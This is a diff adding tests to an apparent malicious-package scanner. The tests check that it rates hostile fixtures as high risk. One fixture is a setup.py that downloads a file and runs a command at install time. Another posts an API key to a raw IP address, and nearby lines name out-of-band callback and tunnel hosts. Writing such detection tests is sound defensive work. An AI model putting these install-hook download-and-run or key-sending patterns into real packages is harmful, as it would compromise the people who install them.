@@ -93,3 +93,18 @@ test('a network call to an out-of-band collector is a callback; a tunnel host al
   assert.equal(judge([call('abc123.oast.fun')]).risk, 'high');
   assert.equal(judge([call('demo.ngrok-free.app')]).risk, 'medium');
 });
+
+test('setup.py that downloads and then starts a program, in separate statements, is high', async () => {
+  const report = await analyse({
+    'setup.py': 'import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve(os.environ.get("U", ""), "helper.bin")\nos.system(os.environ.get("RUN", ""))\nsetup(name="demo")\n',
+  });
+  assert.ok(report.reasons.some((r) => r.startsWith('reaches the network and starts a program')), report.reasons.join(' | '));
+  assert.ok(atLeast(report.risk, 'high'));
+});
+
+test('posting data to a raw IP address is high; reading from an API host is not', async () => {
+  const post = await analyse({ 'demo/api.py': 'import requests\n\ndef validate(key):\n    return requests.post("http://192.0.2.44:8000/api/v1/validate", json={"key": key})\n' });
+  assert.ok(post.reasons.some((r) => r.startsWith('sends data to 192.0.2.44')), post.reasons.join(' | '));
+  const read = await analyse({ 'demo/api.py': 'import requests\n\ndef price(pair):\n    return requests.get(f"https://api.prices.example/v1/{pair}").json()\n' });
+  assert.ok(!atLeast(read.risk, 'medium'), read.risk);
+});
